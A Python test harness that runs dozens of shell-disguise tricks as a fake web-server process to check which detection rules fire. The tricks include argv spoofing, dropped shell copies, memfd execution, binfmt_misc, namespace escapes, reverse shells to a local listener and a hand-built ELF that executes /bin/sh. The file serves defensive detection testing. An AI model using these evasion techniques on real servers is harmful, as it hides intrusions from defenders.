#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""disguises.py play DIRECTORY | judge DIRECTORY <ALERTS

The tricks with which an attacker disguises a shell. "play" runs each trick in a process
with the name of a server and as www-data. Each trick writes a witness to DIRECTORY: what
its shell printed about itself, which proves that it ran. "judge" reads the alerts and
prints lines with tabs:

    ok      promise               the trick ran and raised the right rules
    not ok  promise  what is wrong
    absent  trick    why          this kernel does not have what the trick needs
    table   line                  the table of tricks and rules, in Markdown

A trick is a function below. Its decorator says which rules the last exec must raise, which
it may raise (any other is a fault), which rules execs before the last one must raise, and
what the witness looks like. The function runs as root until it becomes a server.
"""

import contextlib
import ctypes
import json
import os
import pathlib
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import warnings

OPEN = pathlib.Path("/tmp/disguises")    # a directory that everybody can write to
ROOTS = pathlib.Path("/srv/disguises")   # a directory of root
SHELL = pathlib.Path("/bin/sh").resolve()
BUSYBOX = pathlib.Path("/bin/busybox").resolve()
WWW_DATA = 33
PATIENCE = int(os.environ.get("patience", "1"))

libc = ctypes.CDLL(None, use_errno=True)
PR_SET_DUMPABLE, PR_SET_NAME = 4, 15
CLONE_PARENT, CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x8000, 0x20000, 0x10000000, 0x20000000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000
IPPROTO_MPTCP = 262
AT_EMPTY_PATH, SYS_CLONE, SYS_EXECVEAT = 0x1000, 56, 322

# The rules behind the short names in the decorators, in the order of the table.
RULES = {
    "shell": "webserver_shell_exec",
    "self": "illegitimate_shell",
    "dropped": "webserver_dropped_exec",
    "loader": "webserver_loader_exec",
    "reverse": "webserver_reverse_shell",
    "interpreter": "webserver_interpreter_exec",
    "nettool": "webserver_nettool_exec",
    "sysutil": "webserver_sysutil_exec",
    "server": "webserver_exec",
}

# The names that Tracee's TRC-1016 compares.
TRC_1016_SERVERS = {"nginx", "httpd", "httpd-foregroun", "http-nio", "lighttpd", "apache", "apache2"}
TRC_1016_SHELLS = {"ash", "bash", "csh", "ksh", "sh", "tcsh", "zsh", "dash"}

TRICKS = []


class Absent(Exception):
    """This kernel or machine does not have what a trick needs."""


class Trick:
    def __init__(self, how, function, must, may, way, witness):
        self.name, self.how = function.__name__, how
        self.marker = f"disguise-{self.name}."
        self.play = function
        self.must, self.may, self.way = must.split(), may.split(), way.split()
        self.witness = witness

    def command(self):
        """Returns a shell command that prints its PID, parent, name and executable."""
        return ('read -r comm </proc/$$/comm; '
                'echo "$$ $PPID $comm $(readlink /proc/$$/exe)"; '
                f': {self.marker}')


def trick(how, must, witness, may="", way=""):
    """Decorator. @must, @may and @way are short names of rules, with spaces in between.

    @witness is a regular expression for "comm exe", or, if it begins with ^, for "pid ppid
    comm exe".
    """
    def register(function):
        TRICKS.append(Trick(how, function, must, may, way, witness))
    return register


# Building blocks of tricks.

def call(function, *args):
    if function(*args) == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def rename(name):
    call(libc.prctl, PR_SET_NAME, name.encode(), 0, 0, 0)


def become(name, user=WWW_DATA):
    if user:
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
        call(libc.prctl, PR_SET_DUMPABLE, 1, 0, 0, 0)
    # A server listens. An exec closes the socket.
    global listening
    listening = socket.socket(socket.AF_UNIX)
    listening.bind("")
    listening.listen()
    rename(name)


def run(program, *args):
    os.execvp(program, [os.path.basename(program), *args])


def in_child(function, *args):
    pid = os.fork()
    if not pid:
        try:
            function(*args)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def write(path, text):
    path.write_text(text, encoding="ascii")
    path.chmod(0o755)
    return path


def copy(source, path):
    shutil.copyfile(source, path)
    path.chmod(0o755)
    return path


def memfd():
    fd = os.memfd_create("page")
    os.write(fd, SHELL.read_bytes())
    return fd


def private_mounts(flags=0):
    if libc.unshare(flags | CLONE_NEWNS):
        raise Absent("namespaces")
    call(libc.mount, None, b"/", None, MS_REC | MS_PRIVATE, None)


def start_attacker(family, address, sends=b"", protocol=0):
    """Starts a process that listens, sends @sends to its client and prints what it receives.

    Returns the address and port.
    """
    listener = socket.socket(family, socket.SOCK_STREAM, protocol)
    listener.bind((address, 0))
    listener.listen()
    port = listener.getsockname()[1]
    if os.fork():
        listener.close()
        return address, port
    end, _peer = listener.accept()
    end.sendall(sends)
    end.shutdown(socket.SHUT_WR)
    received = b"".join(iter(lambda: end.recv(4096), b""))
    os.write(1, received)
    os._exit(0)


def connect_stdio(family, where, protocol=0):
    end = socket.socket(family, socket.SOCK_STREAM, protocol)
    end.connect(where)
    for fd in range(3):
        os.dup2(end.fileno(), fd)


# The tricks.

@trick("nginx starts /bin/sh", "shell self", f"sh {SHELL}")
def none(command, _marker):
    become("nginx")
    run("/bin/sh", "-c", command)


@trick("php-fpm8.2 starts /bin/sh", "shell self", f"sh {SHELL}")
def none_php(command, _marker):
    become("php-fpm8.2")
    run("/bin/sh", "-c", command)


@trick("argv[0] says [kworker/0:1]", "shell self", f"sh {SHELL}")
def false_argv(command, _marker):
    become("nginx")
    os.execv("/bin/sh", ["[kworker/0:1]", "-c", command])


@trick("copy of a shell in /tmp", "dropped", f"x {OPEN}/x")
def renamed_copy(command, _marker):
    become("nginx")
    run(copy(SHELL, OPEN / "x"), "-c", command)


@trick("copy of a shell in /dev/shm", "dropped", "x /dev/shm/x")
def copy_in_memory(command, _marker):
    become("nginx")
    run(copy(SHELL, pathlib.Path("/dev/shm/x")), "-c", command)


@trick("copy of a shell in a directory of its own", "dropped", f"x {OPEN}/private/x")
def copy_in_private(command, _marker):
    become("nginx")
    directory = OPEN / "private"
    directory.mkdir(mode=0o700)
    run(copy(SHELL, directory / "x"), "-c", command)


@trick("copy of a shell, where the server is root", "dropped", f"x {ROOTS}/x")
def copy_by_root(command, _marker):
    become("nginx", user=0)
    run(copy(SHELL, ROOTS / "x"), "-c", command)


@trick("copy of a shell, run after it was deleted", "dropped", r"\d+ \S+/gone \(deleted\)")
def deleted_copy(command, _marker):
    become("nginx")
    fd = os.open(copy(SHELL, OPEN / "gone"), os.O_RDONLY)
    (OPEN / "gone").unlink()
    run(f"/proc/self/fd/{fd}", "-c", command)


# Debian 11's busybox changes its process name to its argv[0].
@trick("static shell of its own (busybox by another name)", "shell dropped", f"(page|sh) {OPEN}/page",
       may="self")
def static_shell(command, _marker):
    become("nginx")
    os.execv(copy("/bin/busybox", OPEN / "page"), ["sh", "-c", command])


@trick("symbolic link of another name", "shell self", f"symlink {SHELL}")
def symbolic_link(command, _marker):
    become("nginx")
    (OPEN / "symlink").symlink_to("/bin/sh")
    run(OPEN / "symlink", "-c", command)


@trick("/proc/PID/exe of a shell", "shell self", f"exe {SHELL}")
def proc_exe(command, _marker):
    shell = subprocess.Popen(["/bin/sh", "-c", "read line"], stdin=subprocess.PIPE,
                             user=WWW_DATA, group=WWW_DATA)
    become("nginx")
    if not os.fork():
        run(f"/proc/{shell.pid}/exe", "-c", command)
    os.wait()
    shell.communicate()


@trick("bind mount of another name", "shell self", rf"page \S+/page")
def bind_mount(command, _marker):
    page = write(ROOTS / "page", "")
    private_mounts()
    call(libc.mount, b"/bin/sh", bytes(page), None, MS_BIND, None)
    become("nginx")
    run(page, "-c", command)


@trick("hard link of another name", "shell self", f"hardlink {ROOTS}/hardlink")
def hard_link(command, _marker):
    os.link(SHELL, ROOTS / "hardlink")
    become("nginx")
    run(ROOTS / "hardlink", "-c", command)


@trick("#!/bin/sh script", "shell self dropped", f"job {SHELL}")
def script(command, marker):
    become("nginx")
    run(write(OPEN / "job", f"#!/bin/sh\n{command}\n"), marker)


@trick("#! script whose interpreter is a script", "shell self dropped", f"outer {SHELL}")
def nested_scripts(command, marker):
    become("nginx")
    inner = write(OPEN / "inner", f"#!/bin/sh\n{command}\n")
    run(write(OPEN / "outer", f"#!{inner}\n"), marker)


@trick("#! script whose interpreter is a copy of a shell", "dropped", f"disguised {OPEN}/shell")
def script_of_copy(command, marker):
    become("nginx")
    interpreter = copy(SHELL, OPEN / "shell")
    run(write(OPEN / "disguised", f"#!{interpreter}\n{command}\n"), marker)


@trick("#! script whose interpreter is ld.so /bin/sh", "loader dropped", rf"loaded \S+/ld-\S+")
def script_of_loader(command, marker):
    become("nginx")
    run(write(OPEN / "loaded", f"#!/lib64/ld-linux-x86-64.so.2 /bin/sh\n{command}\n"), marker)


@trick("#!/usr/bin/env sh", "shell", f"sh {SHELL}", way="sysutil dropped")
def script_of_env(command, marker):
    become("nginx")
    run(write(OPEN / "env-script", f"#!/usr/bin/env sh\n{command}\n"), marker)


@trick("a binfmt_misc of its own for *.page", "shell self dropped", f"index.page {SHELL}")
def binfmt_misc(command, marker):
    directory = pathlib.Path("/proc/sys/fs/binfmt_misc")
    subprocess.run(["modprobe", "-q", "binfmt_misc"], check=False)
    if not (directory / "register").exists() and \
       libc.mount(b"binfmt_misc", bytes(directory), b"binfmt_misc", 0, None):
        raise Absent("CONFIG_BINFMT_MISC")
    (directory / "register").write_text(":disguise:E::page::/bin/sh:", encoding="ascii")

    def server():
        become("nginx")
        run(write(OPEN / "index.page", f"{command}\n"), marker)

    in_child(server)
    (directory / "disguise").write_text("-1", encoding="ascii")


@trick("ld.so /bin/sh", "loader", r"ld-\S+ \S+/ld-\S+")
def loader(command, _marker):
    become("nginx")
    run("/lib64/ld-linux-x86-64.so.2", "/bin/sh", "-c", command)


@trick("a copy of ld.so /bin/sh", "dropped", f"page.so {OPEN}/page.so")
def loader_copy(command, _marker):
    become("nginx")
    run(copy("/lib64/ld-linux-x86-64.so.2", OPEN / "page.so"), "/bin/sh", "-c", command)


# fexecve sets the process name to the number of the descriptor, or, in later kernels, to the
# name of the file.
@trick("memfd, fexecve", "dropped", r"(\d+|memfd:page) /memfd:page \(deleted\)")
def memfd_fexecve(command, _marker):
    become("nginx")
    os.execve(memfd(), ["page", "-c", command], os.environ)


@trick("memfd, /proc/self/fd", "dropped", r"\d+ /memfd:page \(deleted\)")
def memfd_proc(command, _marker):
    become("nginx")
    run(f"/proc/self/fd/{memfd()}", "-c", command)


@trick("execveat(fd of /bin/sh, AT_EMPTY_PATH)", "shell self", rf"(\d+|{SHELL.name}) {SHELL}")
def execveat_empty_path(command, _marker):
    become("nginx")
    fd = os.open("/bin/sh", os.O_RDONLY)
    args = [b"page", b"-c", command.encode(), None]
    argv = (ctypes.c_char_p * len(args))(*args)
    envp = (ctypes.c_char_p * 1)(None)
    call(libc.syscall, SYS_EXECVEAT, fd, b"", argv, envp, AT_EMPTY_PATH)


@trick("busybox by a link called sh", "shell self", f"sh {BUSYBOX}")
def busybox_link(command, _marker):
    become("nginx")
    (OPEN / "sh").symlink_to("/bin/busybox")
    run(OPEN / "sh", "-c", command)


@trick("busybox sh", "shell self", f"busybox {BUSYBOX}")
def busybox_sh(command, _marker):
    become("nginx")
    run("/bin/busybox", "sh", "-c", command)


@trick("busybox /any/directory/sh", "shell self", f"busybox {BUSYBOX}")
def busybox_path(command, _marker):
    become("nginx")
    run("/bin/busybox", "/any/directory/sh", "-c", command)


@trick("busybox busybox sh", "shell self", f"busybox {BUSYBOX}")
def busybox_busybox(command, _marker):
    become("nginx")
    run("/bin/busybox", "busybox", "sh", "-c", command)


@trick("busybox whose argv[0] is sh", "shell self", f"(busybox|sh) {BUSYBOX}")
def busybox_argv(command, _marker):
    become("nginx")
    os.execv("/bin/busybox", ["sh", "-c", command])


@trick("busybox whose argv[0] is -sh, as a login shell's", "shell self", f"(busybox|-?sh) {BUSYBOX}")
def busybox_login(command, _marker):
    become("nginx")
    os.execv("/bin/busybox", ["-sh", "-c", command])


@trick("hard link of busybox with another name", "shell self", f"(linked|sh) {ROOTS}/linked")
def busybox_hard_link(command, _marker):
    os.link("/bin/busybox", ROOTS / "linked")
    become("nginx")
    os.execv(ROOTS / "linked", ["sh", "-c", command])


def run_root_copy(name, *args):
    """Runs a copy of busybox that is root's, as a container has one: its file is not known."""
    program = copy("/bin/busybox", ROOTS / name)
    become("nginx")
    os.execv(program, args)


@trick("a container's busybox by another name, argv[0] is sh", "shell", f"(getty1|sh) {ROOTS}/getty1")
def other_busybox_argv(command, _marker):
    run_root_copy("getty1", "sh", "-c", command)


@trick("the same, argv[0] is -sh", "shell", f"(getty2|-?sh) {ROOTS}/getty2")
def other_busybox_login(command, _marker):
    run_root_copy("getty2", "-sh", "-c", command)


@trick("the same, argv[0] is busybox", "shell", f"(getty3|busybox) {ROOTS}/getty3")
def other_busybox_sh(command, _marker):
    run_root_copy("getty3", "busybox", "sh", "-c", command)


@trick("the same, argv[0] is a long path of busybox", "shell", f"(getty4|busybox) {ROOTS}/getty4")
def other_busybox_long(command, _marker):
    run_root_copy("getty4", f"{'/' * 300}busybox", "sh", "-c", command)


@trick("#!/bin/busybox sh", "shell self dropped", rf"busybox(-script)? {BUSYBOX}")
def busybox_script(command, marker):
    become("nginx")
    run(write(OPEN / "busybox-script", f"#!/bin/busybox sh\n{command}\n"), marker)


@trick("the server renames itself before (PR_SET_NAME)", "shell", f"sh {SHELL}")
def renamed_server(command, _marker):
    become("nginx")
    rename("kworker/0:1")
    run("/bin/sh", "-c", command)


def in_thread_of_java(*command):
    """The thread http-nio-8080-exec-1 of a process called java starts the command."""
    def work():
        rename("http-nio-8080-exec-1")
        in_child(run, *command)

    become("java")
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()


@trick("thread http-nio-8080-exec-1 of java", "shell self", f"sh {SHELL}")
def java_thread(command, _marker):
    in_thread_of_java("/bin/sh", "-c", command)


@trick("jspawnhelper between such a thread and sh", "shell", f"sh {SHELL}", may="self")
def jspawnhelper(command, _marker):
    in_thread_of_java(copy("/usr/bin/env", ROOTS / "jspawnhelper"), "/bin/sh", "-c", command)


@trick("env sh", "shell", f"sh {SHELL}", way="sysutil")
def env(command, _marker):
    become("nginx")
    run("env", "sh", "-c", command)


@trick("timeout sh", "shell", f"sh {SHELL}")
def timeout(command, _marker):
    become("nginx")
    run("timeout", "60", "sh", "-c", command)


@trick("nohup sh", "shell", f"sh {SHELL}")
def nohup(command, _marker):
    become("nginx")
    run("nohup", "sh", "-c", command)


@trick("setsid sh", "shell", f"sh {SHELL}")
def setsid(command, _marker):
    become("nginx")
    run("setsid", "-w", "sh", "-c", command)


@trick("xargs sh", "shell", f"sh {SHELL}", way="sysutil")
def xargs(command, _marker):
    become("nginx")
    run("xargs", "-a", "/dev/null", "sh", "-c", command)


@trick("find -exec sh", "shell", f"sh {SHELL}", way="sysutil")
def find(command, _marker):
    become("nginx")
    run("find", "/", "-maxdepth", "0", "-exec", "sh", "-c", command, ";")


@trick("system() of awk", "shell", f"sh {SHELL}", way="sysutil")
def awk(command, _marker):
    become("nginx")
    run("awk", "BEGIN { system(ARGV[1]) }", command)


@trick("exec of perl", "shell", f"sh {SHELL}", way="interpreter")
def perl(command, _marker):
    become("nginx")
    run("perl", "-e", "exec @ARGV", "/bin/sh", "-c", command)


@trick("no shell at all: perl by a link of another name", "interpreter", r"perl-link \S+/perl\S*")
def perl_link(_command, marker):
    become("nginx")
    (OPEN / "perl-link").symlink_to("/usr/bin/perl")
    run(OPEN / "perl-link", "-e",
        'open C, "/proc/$$/comm"; chomp($comm = <C>); '
        'print join(" ", $$, getppid, $comm, readlink "/proc/$$/exe"), "\\n"', marker)


@trick("posix_spawn", "shell self", f"sh {SHELL}")
def posix_spawn(command, _marker):
    become("nginx")
    os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", command], os.environ), 0)


@trick("vfork", "shell self", f"sh {SHELL}")
def vfork(command, _marker):
    if not getattr(subprocess, "_USE_VFORK", False):
        raise Absent("a Python that uses vfork")
    become("nginx")
    subprocess.run(["/bin/sh", "-c", command], check=True, close_fds=False)


def leave_and_run(name, *command):
    """Runs the command in a process whose only ancestor is process 1."""
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    rename(name)
    while os.getppid() != 1:
        time.sleep(0.01)
    run(*command)


@trick("double fork, setsid, the server has exited", "shell", rf"^\d+ 1 sh {SHELL}")
def orphan(command, _marker):
    become("nginx")
    leave_and_run("kworker/0:1", "/bin/sh", "-c", command)


@trick("double fork, setsid, with a name in another rule", "shell", rf"^\d+ 1 sh {SHELL}")
def orphan_of_two(command, _marker):
    become("nginx")
    rename("postgres")
    leave_and_run("kworker/0:1", "/bin/sh", "-c", command)


def leave_in_thread(prepare, command):
    """Starts a thread that leaves and runs the command after prepare(thread) has returned."""
    prepared = threading.Event()

    def work():
        prepared.wait()
        leave_and_run("kworker/0:1", "/bin/sh", "-c", command)

    thread = threading.Thread(target=work)
    thread.start()
    prepare(thread)
    prepared.set()
    thread.join()


@trick("double fork, setsid, by a thread that another thread has named", "shell", rf"^\d+ 1 sh {SHELL}")
def orphan_of_named_thread(command, _marker):
    def name(thread):
        comm = pathlib.Path(f"/proc/self/task/{thread.native_id}/comm")
        comm.write_text("http-nio-8080-e", encoding="ascii")

    become("java")
    leave_in_thread(name, command)


@trick("double fork, setsid, by a thread older than the name of its process", "shell",
       rf"^\d+ 1 sh {SHELL}")
def orphan_of_older_thread(command, _marker):
    become("python3")
    leave_in_thread(lambda thread: rename("nginx"), command)


@trick("the server's sister (CLONE_PARENT)", "shell", f"sh {SHELL}")
def sister(command, _marker):
    become("nginx")
    if not libc.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0):
        rename("kworker/0:1")
        run("/bin/sh", "-c", command)


@trick("ten levels down, each renamed", "shell", f"sh {SHELL}")
def ten_levels(command, _marker):
    def descend(level):
        rename(f"level-{level}")
        if level == 10:
            run("/bin/sh", "-c", command)
        in_child(descend, level + 1)

    become("nginx")
    in_child(descend, 1)


@trick("the server's chroot", "shell self", "sh /bin/busybox")
def chroot(command, _marker):
    jail = ROOTS / "jail"
    for directory in "bin", "proc":
        (jail / directory).mkdir(parents=True)
    copy("/bin/busybox", jail / "bin" / "busybox")
    for applet in "sh", "readlink":
        (jail / "bin" / applet).symlink_to("busybox")
    private_mounts()
    call(libc.mount, b"proc", bytes(jail / "proc"), b"proc", 0, None)
    os.chroot(jail)
    os.chdir("/")
    become("nginx")
    run("/bin/sh", "-c", command)


@trick("the server's container (pid, mount, user namespace)", "shell self", f"^2 1 sh {SHELL}")
def container(command, _marker):
    become("python3")
    private_mounts(CLONE_NEWUSER | CLONE_NEWPID)
    call(libc.prctl, PR_SET_DUMPABLE, 1, 0, 0, 0)
    for file, text in ("setgroups", "deny"), ("uid_map", f"0 {WWW_DATA} 1"), ("gid_map", f"0 {WWW_DATA} 1"):
        pathlib.Path(f"/proc/self/{file}").write_text(text, encoding="ascii")

    def server():
        call(libc.mount, b"proc", b"/proc", b"proc", 0, None)
        rename("nginx")
        in_child(run, "/bin/sh", "-c", command)

    in_child(server)


@trick("a new container: unshare sh", "shell", f"^1 0 sh {SHELL}")
def unshare(command, _marker):
    become("nginx")
    run("unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc", "sh", "-c", command)


def reverse(family, address, command, protocol=0):
    where = start_attacker(family, address, protocol=protocol)
    become("nginx")
    connect_stdio(family, where, protocol)
    run("/bin/sh", "-c", command)


@trick("reverse shell, IPv4", "reverse shell self", f"sh {SHELL}")
def reverse_ipv4(command, _marker):
    reverse(socket.AF_INET, "127.0.0.1", command)


@trick("reverse shell, IPv6", "reverse shell self", f"sh {SHELL}")
def reverse_ipv6(command, _marker):
    reverse(socket.AF_INET6, "::1", command)


@trick("reverse shell, IPv4 by an IPv6 socket", "reverse shell self", f"sh {SHELL}")
def reverse_mapped(command, _marker):
    _address, port = start_attacker(socket.AF_INET, "127.0.0.1")
    become("nginx")
    connect_stdio(socket.AF_INET6, ("::ffff:127.0.0.1", port))
    run("/bin/sh", "-c", command)


@trick("reverse shell, Multipath TCP", "reverse shell self", f"sh {SHELL}")
def reverse_mptcp(command, _marker):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP).close()
    except OSError as error:
        raise Absent("CONFIG_MPTCP") from error
    reverse(socket.AF_INET, "127.0.0.1", command, IPPROTO_MPTCP)


@trick("reverse shell of a copy", "reverse dropped", f"reverse {OPEN}/reverse")
def reverse_copy(command, _marker):
    where = start_attacker(socket.AF_INET, "127.0.0.1")
    become("nginx")
    connect_stdio(socket.AF_INET, where)
    run(copy(SHELL, OPEN / "reverse"), "-c", command)


@trick("a relay to the shell: socat", "shell", rf"disguise-\S* {SHELL}", way="nettool")
def relay(command, marker):
    address, port = start_attacker(socket.AF_INET, "127.0.0.1", f"{command}\n".encode())
    become("nginx")
    link = OPEN / marker
    link.symlink_to("/bin/sh")
    # By default socat ends the shell half a second after the attacker's end of data.
    run("socat", "-t", "20", f"TCP:{address}:{port}", f"EXEC:{link}")


def elf32():
    """Returns a 32-bit program that calls execve("/bin/sh", argv, envp)."""
    base, headers = 0x08048000, 52 + 32
    code = (b"\xb8\x0b\x00\x00\x00"       # mov eax, 11 (execve)
            b"\xbb" + (base + headers + 35).to_bytes(4, "little") +  # mov ebx, path
            b"\x8d\x4c\x24\x04"           # lea ecx, [esp + 4]
            b"\x8b\x14\x24"               # mov edx, [esp]
            b"\x8d\x54\x94\x08"           # lea edx, [esp + edx * 4 + 8]
            b"\xcd\x80"                   # int 0x80
            b"\xb8\x01\x00\x00\x00"       # mov eax, 1 (exit)
            b"\x89\xc3"                   # mov ebx, eax
            b"\xcd\x80"                   # int 0x80
            b"\x90\x90\x90"               # nop
            b"/bin/sh\0")
    assert code.index(b"/bin/sh") == 35
    size = headers + len(code)

    def words(width, *values):
        return b"".join(value.to_bytes(width, "little") for value in values)

    return (b"\x7fELF\x01\x01\x01" + bytes(9) + words(2, 2, 3) + words(4, 1, base + headers, 52, 0, 0) +
            words(2, 52, 32, 1, 0, 0, 0) + words(4, 1, 0, base, base, size, size, 5, 0x1000) + code)


@trick("execve of a 32-bit program", "shell", f"sh {SHELL}", way="dropped")
def exec_32_bit(command, _marker):
    become("nginx")
    program = OPEN / "elf32"
    program.write_bytes(elf32())
    program.chmod(0o755)
    try:
        run(program, "-c", command)
    except OSError as error:
        raise Absent("CONFIG_IA32_EMULATION") from error


# play

def witness_of(a_trick, directory):
    return directory / f"witness-{a_trick.name}"


def perform(a_trick, witness):
    """Runs a trick in the calling process, which it ends; the output is the witness."""
    null = os.open("/dev/null", os.O_RDONLY)
    out = os.open(witness, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_APPEND)
    for fd, source in enumerate((null, out, out)):
        os.dup2(source, fd)
    try:
        a_trick.play(a_trick.command(), a_trick.marker)
    except Absent as why:
        os.write(1, f"absent: {why}\n".encode())
    except Exception as error:
        os.write(1, f"{type(error).__name__}: {error}\n".encode())
    finally:
        os._exit(0)


def play(directory):
    for path in OPEN, ROOTS:
        shutil.rmtree(path, ignore_errors=True)
        path.mkdir()
    OPEN.chmod(0o1777)
    with contextlib.suppress(FileNotFoundError):
        os.unlink("/dev/shm/x")
    os.environ.clear()
    os.environ["PATH"] = "/usr/sbin:/usr/bin:/sbin:/bin"
    os.chdir("/")
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    # Python 3.12 warns when a thread forks: the warning would get into the witness.
    warnings.simplefilter("ignore", DeprecationWarning)

    for a_trick in TRICKS:
        witness = witness_of(a_trick, directory)
        in_child(perform, a_trick, witness)
        # Processes that the trick has left may still be running.
        deadline = time.monotonic() + 20 * PATIENCE
        while b"\n" not in witness.read_bytes() and time.monotonic() < deadline:
            time.sleep(0.02)


# judge

class Case:
    """A trick with its witness and its alerts."""

    def __init__(self, a_trick, directory, alerts):
        self.trick = a_trick
        lines = witness_of(a_trick, directory).read_text().splitlines() or ["nothing"]
        self.printed = "; ".join(lines)
        self.last_line = lines[-1]
        self.alert, self.on_the_way = None, set()
        mine = [a for a in alerts if a_trick.marker in json.dumps(a["process"]["argv"])]
        pid = re.match(r"(\d+) ", self.last_line)
        self.alerts = [a for a in mine if pid and a["process"]["ns_pid"] == int(pid.group(1))]
        if self.alerts:
            self.alert = self.alerts[-1]
        for alert in mine:
            if alert is not self.alert:
                self.on_the_way |= self.short(alert)

    @staticmethod
    def short(alert):
        return {short for short, rule in RULES.items() if alert and rule in alert["rules"]}

    def absent(self):
        return self.last_line.startswith("absent: ")

    def ran(self):
        pattern = self.trick.witness
        if not pattern.startswith("^"):
            pattern = rf"\d+ \d+ {pattern}"
        return re.fullmatch(pattern.lstrip("^"), self.last_line) is not None

    def rules(self):
        return self.short(self.alert)

    def faults(self):
        if not self.ran():
            yield f"it did not run, its witness is: {self.printed}"
            return
        if not self.alert:
            yield "no alert"
            return
        for rule in self.trick.must:
            if rule not in self.rules():
                yield f"not raised: {RULES[rule]}"
        for rule in sorted(self.rules() - {*self.trick.must, *self.trick.may}):
            yield f"should not be raised: {RULES[rule]}"
        for rule in self.trick.way:
            if rule not in self.on_the_way:
                yield f"not raised on the way: {RULES[rule]}"
        same = [a for a in self.alerts if a["pathname"] == self.alert["pathname"]]
        if len(same) != 1:
            yield f"{len(same)} alerts"
        if self.alert["verdict"] != "observed":
            yield f"verdict {self.alert['verdict']}"

    def trc_1016(self):
        return (self.alert["comm"] in TRC_1016_SERVERS and
                self.alert["process"]["comm"] in TRC_1016_SHELLS)

    def row(self):
        """Returns the row of the table: rules that must be raised are bold."""
        def cell(rule):
            must = rule in self.trick.must
            if rule in self.rules():
                return "**yes**" if must else "yes"
            return "**missed**" if must else ""

        cells = [cell(rule) for rule in RULES]
        trc = ("alert" if self.trc_1016() else "nothing") if self.alert else "?"
        return [self.trick.how, *cells, " ".join(r for r in RULES if r in self.on_the_way), trc]


def promise(a_trick):
    text = f"{a_trick.how}: raises " + ", ".join(RULES[rule] for rule in a_trick.must)
    if a_trick.way:
        text += "; on the way " + ", ".join(RULES[rule] for rule in a_trick.way)
    return text


def verdict(case):
    faults = list(case.faults())
    if case.absent():
        return "absent", case.trick.how, case.printed
    if not faults:
        return "ok", promise(case.trick)
    why = "; ".join([", ".join(faults), case.printed, json.dumps(case.alert)])
    return "not ok", promise(case.trick), why


def table(cases):
    header = ["trick", *(f"`{rule}`" for rule in RULES.values()), "on the way", "TRC-1016"]
    for row in header, ["---"] * len(header), *(case.row() for case in cases):
        yield "| " + " | ".join(row) + " |"


def judge(directory):
    records = [json.loads(line) for line in sys.stdin]
    alerts = [record for record in records if record.get("type") != "event"]
    cases = [Case(a_trick, directory, alerts) for a_trick in TRICKS]
    for case in cases:
        print(*verdict(case), sep="\t")
    for line in table(case for case in cases if not case.absent()):
        print("table", line, sep="\t")


if __name__ == "__main__":
    {"play": play, "judge": judge}[sys.argv[1]](pathlib.Path(sys.argv[2]))
